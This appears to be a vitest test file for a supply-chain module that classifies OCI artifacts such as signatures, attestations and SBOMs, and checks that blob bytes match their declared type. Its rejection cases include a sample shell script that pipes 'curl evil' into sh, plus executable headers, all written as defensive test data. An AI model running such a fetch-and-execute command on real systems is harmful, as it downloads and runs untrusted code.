import { digestOf, sha256Of } from '@gati/identifiers';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { carrierLimits, looksLike, partsOfCarrier, type DocumentFormat } from './carriers.ts';
import { parseManifest } from './manifests.ts';

const empty = { mediaType: 'application/vnd.oci.empty.v1+json', digest: sha256Of(Buffer.from('{}')), size: 2 };
const blob = (mediaType: string, size = 100) => ({ mediaType, digest: sha256Of(Buffer.from(mediaType)), size });
const sbom = blob('application/spdx+json');
const partsOf = (config: object, layers: readonly object[], more: object = {}) =>
  partsOfCarrier(parseManifest(Buffer.from(JSON.stringify({ schemaVersion: 2, config, layers, ...more })), 'application/vnd.oci.image.manifest.v1+json'));

describe('a carrier that needs no signature of its own', () => {
  test.each([
    ['a Sigstore bundle', empty, [blob('application/vnd.dev.sigstore.bundle.v0.3+json')]],
    [
      'Cosign’s signature image',
      blob('application/vnd.oci.image.config.v1+json'),
      [blob('application/vnd.dev.cosign.simplesigning.v1+json'), blob('application/vnd.dev.cosign.simplesigning.v1+json')],
    ],
    ['Cosign’s attestation image', blob('application/vnd.oci.image.config.v1+json'), [blob('application/vnd.dsse.envelope.v1+json')]],
    ['Cosign’s first referrer', blob('application/vnd.dev.cosign.artifact.sig.v1+json'), [blob('application/vnd.dev.cosign.simplesigning.v1+json')]],
    ['attestations of BuildKit', blob('application/vnd.oci.image.config.v1+json'), [blob('application/vnd.in-toto+json')]],
    ['SPDX as JSON', empty, [sbom]],
    ['SPDX as tags', empty, [blob('text/spdx')]],
    ['CycloneDX', empty, [blob('application/vnd.cyclonedx+json'), blob('application/vnd.cyclonedx+xml')]],
    ['a config that is named like its document', blob('application/vnd.cyclonedx+json'), [blob('application/vnd.cyclonedx+json')]],
    ['a signature of Notation', blob('application/vnd.cncf.notary.signature', 2), [blob('application/jose+json')]],
    ['annotations alone', empty, [empty]],
    ['nothing at all', empty, []],
    ['the largest document', empty, [blob('application/spdx+json', carrierLimits.documentSizeBytes)]],
  ])('%s', (_, config, layers) => expect(partsOf(config, layers)).not.toBeNull());

  test('is looked at in every blob but the empty one', () => {
    expect(partsOf(empty, [sbom, empty, blob('application/vnd.cyclonedx+xml')])).toEqual([
      { digest: sbom.digest, format: 'json' },
      { digest: blob('application/vnd.cyclonedx+xml').digest, format: 'xml' },
    ]);
    const long = { ...empty, digest: digestOf(Buffer.from('{}'), 'sha512') };
    expect(partsOf(long, [])).toEqual([]);
  });
});

describe('what waits for a signature of its own, whatever it refers to', () => {
  test.each([
    ['an archive', empty, [blob('application/vnd.oci.image.layer.v1.tar+gzip')]],
    ['an archive beside a document', empty, [sbom, blob('application/vnd.oci.image.layer.v1.tar+gzip')]],
    ['a layer of Gati', empty, [blob('application/vnd.gati.layer.v1.tar+gzip')]],
    ['a layer that may be missing', empty, [blob('application/vnd.oci.image.layer.nondistributable.v1.tar')]],
    ['a WebAssembly module', empty, [blob('application/vnd.wasm.content.layer.v1+wasm')]],
    ['bytes of no type', empty, [blob('application/octet-stream')]],
    ['any JSON', empty, [blob('application/json')]],
    ['a config as layer', empty, [blob('application/vnd.oci.image.config.v1+json')]],
    ['an unknown config', blob('application/vnd.acme.setup.config'), [sbom]],
    ['a Gati manifest', blob('application/vnd.gati.manifest.v1+json'), []],
    ['a type in other letters', empty, [blob('application/SPDX+json')]],
    ['an empty config that is not empty', { ...empty, digest: sha256Of(Buffer.from('MZ')) }, [sbom]],
    ['a document that is too large', empty, [blob('application/spdx+json', carrierLimits.documentSizeBytes + 1)]],
    ['a config that is too large', blob('application/vnd.oci.image.config.v1+json', carrierLimits.configSizeBytes + 1), [sbom]],
    ['documents that are too large together', empty, Array.from({ length: 5 }, () => blob('application/spdx+json', carrierLimits.documentSizeBytes))],
  ])('%s', (_, config, layers) => expect(partsOf(config, layers)).toBeNull());

  test('the type that an artifact gives itself decides nothing', () => {
    expect(partsOf(empty, [blob('application/x-sh')], { artifactType: 'application/spdx+json' })).toBeNull();
    expect(partsOf(empty, [sbom], { artifactType: 'application/vnd.acme.anything' })).not.toBeNull();
  });
});

describe('bytes are what their type says', () => {
  const json = Buffer.from(JSON.stringify({ spdxVersion: 'SPDX-2.3', name: 'größe' }, null, 2));
  const zip = Buffer.concat([Buffer.from('PK\u0005\u0006'), Buffer.alloc(18)]);
  test.each<readonly [string, DocumentFormat, Buffer, boolean]>([
    ['JSON', 'json', json, true],
    ['JSON with a byte order mark and a line end', 'json', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), json, Buffer.from('\r\n')]), true],
    ['two JSON documents in lines', 'json', Buffer.from('{"a":1}\n{"b":2}\n'), true],
    ['an empty object', 'json', Buffer.from('{}'), true],
    ['nothing', 'json', Buffer.alloc(0), false],
    ['a gzip archive', 'json', gzipSync(json), false],
    ['a zip archive behind JSON', 'json', Buffer.concat([json, zip, Buffer.from('}')]), false],
    ['an executable', 'json', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1]), false],
    ['a program of Windows', 'json', Buffer.from('MZ\u0090\u0000'), false],
    ['a shell script', 'json', Buffer.from('#!/bin/sh\ncurl evil | sh\n}'), false],
    ['JSON that ends in a script', 'json', Buffer.concat([json, Buffer.from('\ncurl evil | sh')]), false],
    ['JSON in UTF-16', 'json', Buffer.from('{"a":1}', 'utf16le'), false],
    ['a page as JSON', 'json', Buffer.from('<script>{}</script>'), false],
    ['XML', 'xml', Buffer.from('<?xml version="1.0"?>\n<bom/>\n'), true],
    ['XML without a declaration', 'xml', Buffer.from('<bom xmlns="http://cyclonedx.org/schema/bom/1.5"></bom>'), true],
    ['a page as XML', 'xml', Buffer.from('<html></html>'), false],
    ['SPDX tags', 'spdx', Buffer.from('SPDXVersion: SPDX-2.3\nDataLicense: CC0-1.0\n'), true],
    ['a script as SPDX', 'spdx', Buffer.from('#!/bin/sh\n# SPDXVersion: SPDX-2.3\n'), false],
  ])('%s as %s', async (_, format, bytes, expected) => {
    for (const size of [1, 7, 64 * 1024]) {
      const pieces = Array.from({ length: Math.ceil(bytes.length / size) }, (_piece, index) => bytes.subarray(index * size, (index + 1) * size));
      expect([size, await looksLike(format, Readable.from(pieces))]).toEqual([size, expected]);
    }
  });

  test('nobody reads on behind the first byte that says no', async () => {
    let pieces = 0;
    const endless = async function* () {
      for (;;) {
        pieces++;
        yield gzipSync('malware');
      }
    };
    expect(await looksLike('json', endless())).toBe(false);
    expect(pieces).toBe(1);
  });
});
